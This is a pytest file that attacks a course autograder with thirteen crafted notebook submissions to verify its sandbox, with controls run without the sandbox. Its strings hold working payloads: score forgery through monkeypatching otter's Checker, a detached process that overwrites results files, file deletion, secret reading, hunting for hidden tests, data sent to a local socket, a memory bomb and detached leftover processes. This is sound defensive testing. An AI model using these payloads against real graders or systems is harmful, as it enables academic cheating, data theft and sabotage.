"""Submissions that attack the grader: each is graded with the marks its answers earn, and
nothing outside its sandbox changes.

Thirteen crafted submissions to assignment 02 (16 points) are graded in one parallel run of the
grading command's own function (``grade_class``, two at a time), as an instructor's class would
be. Around the run: a canary folder of the instructor's, a secret file, an earlier student's
results JSON, a TCP server on the loopback; after it, each is checked untouched (the server:
never reached), and no process any submission started is left. Each attack's negative control
runs it where it would have worked: plain ``otter run`` (the grading of before, whose scores
were computed in the student's kernel) for the forged scores, the same grading without the
sandbox (``sandbox=False``) for the side effects, a process without the limits for the memory.
"""

from __future__ import annotations

import json
import socket
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import nbformat
import psutil
import pytest
from assignment_harness import tool

A2 = "02_integrators_and_orders"
FULL = 16.0
#: Marks of what a process started by a submission carries on its command line.
LEFTOVER = "4322"


def _with_cell(notebook, source: str, after: int = 0):
    """A copy of ``notebook`` with a code cell ``source`` inserted after cell ``after``."""
    changed = nbformat.from_dict(json.loads(json.dumps(notebook)))
    changed.cells.insert(after + 1, nbformat.v4.new_code_cell(source))
    return changed


def _forge_scores() -> str:
    return textwrap.dedent("""\
        from otter.execute import Checker
        _checked = Checker.get_results.__func__
        def _all_points(cls):
            for test_file in _checked(cls):
                test_file.update_score(test_file.possible)
            return _checked(cls)
        Checker.get_results = classmethod(_all_points)
        """)


def _race_results() -> str:
    # A detached process that overwrites every results.json it can find near the kernel's
    # folder with full marks, as soon as it appears.
    return textwrap.dedent(f"""\
        import os, subprocess, sys
        forger = '''
        import glob, json, os, time
        forged = {{"score": 16.0, "tests": []}}
        end = time.time() + 900
        while time.time() < end:
            for path in glob.glob(os.path.join(os.getcwd(), "..", "**", "results.json"),
                                  recursive=True):
                try:
                    data = json.load(open(path))
                    if data.get("score") != 16.0:
                        for test in data.get("tests", []):
                            test["score"] = test.get("max_score", 0)
                        data["score"] = 16.0
                        json.dump(data, open(path, "w"))
                except Exception:
                    pass
            time.sleep(0.001)
        '''
        subprocess.Popen([sys.executable, "-c", forger, "race-{LEFTOVER}"],
                         start_new_session=True, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL)
        """)


def _vandal(canary: Path, earlier: Path, secret: Path, dist: Path, port: int) -> str:
    return textwrap.dedent(f"""\
        import glob, os, shutil, socket, subprocess, sys
        shutil.rmtree({str(canary)!r}, ignore_errors=True)
        try:
            with open({str(earlier)!r}, "w") as handle:
                handle.write('{{"score": 0.0, "tests": [], "notes": ["vandalized"]}}')
            print("vandal: rewrote the earlier results")
        except OSError as err:
            print("vandal: could not rewrite the earlier results:", type(err).__name__)
        try:
            print("vandal: secret", open({str(secret)!r}).read())
        except OSError as err:
            print("vandal: no secret:", type(err).__name__)
        tests = glob.glob("/tmp/**/tests/*.py", recursive=True)
        tests += glob.glob({str(dist)!r} + "/**/*autograder*.zip", recursive=True)
        print("vandal: found", len(tests), "hidden test files")
        try:
            socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"leak")
            print("vandal: sent to the network")
        except OSError as err:
            print("vandal: no network:", type(err).__name__)
        # Detached: a session of its own (out of the kernel's process group), and the shell
        # exits at once, so that the sleep leaves the process tree too.
        subprocess.Popen(["sh", "-c", "setsid sleep {LEFTOVER}1 >/dev/null 2>&1 &"]).wait()
        """)


SLEEPER = textwrap.dedent("""\
    import signal, time
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    time.sleep(100000)
    """)
HUGE_OUTPUT = "for _ in range(300):\n    print('x' * 1_000_000)"
MEMORY_BOMB = "import numpy as np\nhoard = np.empty(2**33, dtype=np.uint8)  # 8 GB"
KILL_RUNNER = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"


@pytest.fixture(scope="module")
def arena(kit, tmp_path_factory):
    """The instructor's files, a listening server, and the thirteen submissions graded."""
    root = tmp_path_factory.mktemp("arena")
    instructor = root / "instructor"
    canary = instructor / "canary"
    canary.mkdir(parents=True)
    (canary / "keep.txt").write_text("the instructor's file")
    secret = instructor / "secret.txt"
    secret.write_text("instructor-secret-7781")
    out = root / "graded"
    earlier = out / "earlier" / "hw.json"
    earlier.parent.mkdir(parents=True)
    earlier.write_text(json.dumps({"score": 12.0, "tests": [], "notes": []}))
    server = socket.create_server(("127.0.0.1", 0))
    port = server.getsockname()[1]
    reached = []
    server.settimeout(0.5)

    def listen():
        while not stop.is_set():
            try:
                connection, _ = server.accept()
                reached.append(connection.recv(16))
                connection.close()
            except OSError:
                pass

    stop = threading.Event()
    threading.Thread(target=listen, daemon=True).start()

    solutions = kit.notebook(A2, "autograder")
    blank = kit.notebook(A2, "student")
    vandal = _vandal(canary, earlier, secret, kit.dist, port)
    # Q5's answer, then a sleep that switches off the alarm and the interrupt.
    sleeper = nbformat.from_dict(json.loads(json.dumps(solutions)))
    q5 = next(c for c in sleeper.cells if "leapfrog_limit = 2 /" in c.source)
    q5.source += "\n" + SLEEPER
    cases = {
        "forged_checker": _with_cell(blank, _forge_scores()),
        "results_race": _with_cell(blank, _race_results()),
        "vandal": _with_cell(solutions, vandal, after=1),
        "sleeper": sleeper,
        "huge_output": _with_cell(solutions, HUGE_OUTPUT, after=1),
        "memory_bomb": _with_cell(solutions, MEMORY_BOMB, after=1),
        "os_exit": _with_cell(solutions, "import os\nos._exit(3)", after=1),
        "sys_exit": _with_cell(solutions, "import sys\nsys.exit(1)", after=1),
        "kills_its_runner": _with_cell(solutions, KILL_RUNNER, after=1),
        "wrong_with_forged_json": _with_cell(
            blank, "import json\njson.dump({'score': 16.0}, open('results.json', 'w'))"),
    }
    folder = root / "submissions"
    paths = {}
    for name, notebook in cases.items():
        paths[f"{name}/hw.ipynb"] = folder / name / "hw.ipynb"
        paths[f"{name}/hw.ipynb"].parent.mkdir(parents=True)
        nbformat.write(notebook, paths[f"{name}/hw.ipynb"])
    for name, content, suffix in [("not_a_notebook", "an essay about pendulums", ".txt"),
                                  ("empty", "", ".ipynb"), ("truncated", '{"cells": [', ".ipynb")]:
        paths[f"{name}/hw{suffix}"] = folder / name / f"hw{suffix}"
        paths[f"{name}/hw{suffix}"].parent.mkdir(parents=True)
        paths[f"{name}/hw{suffix}"].write_text(content)
    assert len(paths) == 13
    started = time.perf_counter()
    grades = tool.grade_class(kit.folders[A2], paths, out, jobs=2, progress=False,
                              cell_seconds=30.0, total_seconds=600.0, cache=kit.cache)
    seconds = time.perf_counter() - started
    time.sleep(1.0)
    leftovers = [" ".join(proc.info["cmdline"]) for proc in psutil.process_iter(["cmdline"])
                 if proc.info["cmdline"] and any(LEFTOVER in arg for arg in proc.info["cmdline"])]
    stop.set()
    server.close()
    yield {"grades": grades, "out": out, "canary": canary, "earlier": earlier,
           "secret": secret, "reached": reached, "leftovers": leftovers, "seconds": seconds,
           "paths": paths, "port": port, "vandal": vandal, "solutions": solutions,
           "blank": blank, "root": root}


EXPECTED = {  # case -> marks its answers earn (of 16)
    "forged_checker": 0.0, "results_race": 0.0, "wrong_with_forged_json": 0.0,
    "vandal": FULL, "huge_output": FULL, "memory_bomb": FULL, "os_exit": FULL,
    "sys_exit": FULL,
    "sleeper": FULL - 2.0,  # Q5's answer cell never ends: it is skipped, Q5 lost
    "kills_its_runner": 0.0,  # the channel to its answers is gone with the runner
    "not_a_notebook": 0.0, "empty": 0.0, "truncated": 0.0,
}


def _case(arena, case):
    return next(graded for name, graded in arena["grades"].items()
                if name.split("/")[0] == case)


@pytest.mark.parametrize("case", sorted(EXPECTED))
def test_each_attack_earns_what_its_answers_earn(arena, case):
    graded = _case(arena, case)
    assert graded.score == pytest.approx(EXPECTED[case]), (graded.scores, graded.notes)
    name = next(n for n in arena["grades"] if n.split("/")[0] == case)
    written = json.loads(tool.results_path(arena["out"], name).read_text())
    assert written["score"] == pytest.approx(EXPECTED[case])


def test_nothing_outside_the_sandboxes_changed(arena):
    assert (arena["canary"] / "keep.txt").read_text() == "the instructor's file"
    assert json.loads(arena["earlier"].read_text())["score"] == 12.0
    assert arena["reached"] == []
    assert arena["leftovers"] == []
    vandal = _case(arena, "vandal").executed
    printed = "".join(out.get("text", "") for cell in vandal.cells
                      for out in cell.get("outputs", []))
    assert "vandal: found 0 hidden test files" in printed
    assert "instructor-secret" not in printed and "no secret" in printed
    assert "could not rewrite the earlier results" in printed
    assert "no network" in printed


def test_the_class_csv_has_one_row_per_submission(arena):
    import csv

    with open(arena["out"] / "grades.csv") as handle:
        rows = {row["submission"]: float(row["total"]) for row in csv.DictReader(handle)}
    assert set(rows) == set(arena["paths"])
    assert all(rows[name] == pytest.approx(EXPECTED[name.split("/")[0]]) for name in rows)


def test_the_notes_say_what_happened(arena):
    def notes(case):
        return "\n".join(_case(arena, case).notes)

    assert "ignored the interrupt" in notes("sleeper")
    assert "MemoryError" in notes("memory_bomb")
    assert "ended its kernel" in notes("os_exit")
    assert "SystemExit" in notes("sys_exit")
    assert "not a notebook" in notes("not_a_notebook") and "is empty" in notes("empty")
    huge = _case(arena, "huge_output").executed
    assert sum(len(json.dumps(cell.get("outputs", []))) for cell in huge.cells) < 2_000_000
    assert tool.DROPPED_OUTPUT in json.dumps(huge.cells[2].outputs)
    every = _case(arena, "vandal").results["notes"]
    assert any(note.startswith("isolation: bubblewrap") for note in every)
    assert any(note.startswith("memory:") for note in every)


# ------------------------------------------------------------------------ negative controls
def _otter_run(kit, notebook, work: Path) -> float:
    """The score plain ``otter run`` gives (the grading of before: checks in the kernel)."""
    work.mkdir(parents=True, exist_ok=True)
    path = work / f"{A2}.ipynb"
    nbformat.write(notebook, path)
    command = [sys.executable, "-m", "otter", "run", "-a",
               str(tool.autograder_zip(kit.folders[A2])), "-o", str(work), "--no-logo", str(path)]
    subprocess.run(command, cwd=work, capture_output=True, timeout=900, check=False)
    time.sleep(2.0)  # the racing process writes right after otter
    tests = json.loads((work / "results.json").read_text())["tests"]
    return sum(test.get("score") or 0.0 for test in tests)


def test_control_plain_otter_takes_the_forged_scores(kit, arena):
    """The same two forgeries against the grading of before: full marks for blank answers."""
    try:
        forged = _otter_run(kit, _with_cell(arena["blank"], _forge_scores()),
                            arena["root"] / "otter-forged")
        raced = _otter_run(kit, _with_cell(arena["blank"], _race_results()),
                           arena["root"] / "otter-race")
    finally:
        for proc in psutil.process_iter(["cmdline"]):
            if proc.info["cmdline"] and f"race-{LEFTOVER}" in proc.info["cmdline"]:
                proc.kill()
    assert forged == FULL
    assert raced == FULL


def test_control_without_the_sandbox_the_vandal_succeeds(kit, arena, tmp_path):
    """The vandal's cell, graded with ``sandbox=False``: the canary goes, the earlier results
    are rewritten, the secret and the hidden tests are read, the server is reached, and its
    process outlives the grading."""
    canary, earlier = arena["canary"].parent / "canary-control", tmp_path / "earlier.json"
    (canary).mkdir()
    earlier.write_text('{"score": 12.0}')
    vandal = _vandal(canary, earlier, arena["secret"], kit.dist, arena["port"])
    # The arena's server has stopped: one of our own hears the control.
    server = socket.create_server(("127.0.0.1", 0))
    vandal = vandal.replace(str(arena["port"]), str(server.getsockname()[1]))
    notebook = _with_cell(arena["solutions"], vandal, after=1)
    path = tmp_path / "vandal.ipynb"
    nbformat.write(notebook, path)
    try:
        graded = tool.grade(kit.folders[A2], path, sandbox=False, cell_seconds=60.0)
        server.settimeout(5)
        connection, _ = server.accept()
        connection.close()
    finally:
        server.close()
        left = [proc for proc in psutil.process_iter(["cmdline"])
                if proc.info["cmdline"] == ["sleep", f"{LEFTOVER}1"]]
        for proc in left:
            proc.kill()
    printed = "".join(out.get("text", "") for cell in graded.executed.cells
                      for out in cell.get("outputs", []))
    assert not canary.exists()
    assert "vandalized" in earlier.read_text()
    assert "instructor-secret-7781" in printed
    assert "vandal: found 0 hidden" not in printed
    assert left, "the detached process should have outlived an unsandboxed grading"
    assert graded.score == FULL  # the scores themselves still come from the checker


def test_control_without_limits_the_memory_bomb_allocates(tmp_path):
    """The memory bomb's allocation succeeds in a process without the sandbox's limits, and
    fails with MemoryError once the grader's limit is applied to the process."""
    tools = str(Path(tool.__file__).parent)
    probe = (f"import sys; sys.path.insert(0, {tools!r}); import assignments as tool\n"
             "if sys.argv[1] == 'limited': tool._limit_resources(6144, 256)\n"
             "import numpy as np\n"
             "try:\n    np.empty(2**33, dtype=np.uint8); print('allocated')\n"
             "except MemoryError:\n    print('MemoryError')\n"
             )
    outcomes = {mode: subprocess.run([sys.executable, "-c", probe, mode], capture_output=True,
                                     text=True, timeout=120, check=False).stdout.strip()
                for mode in ("limited", "unlimited")}
    assert outcomes == {"limited": "MemoryError", "unlimited": "allocated"}
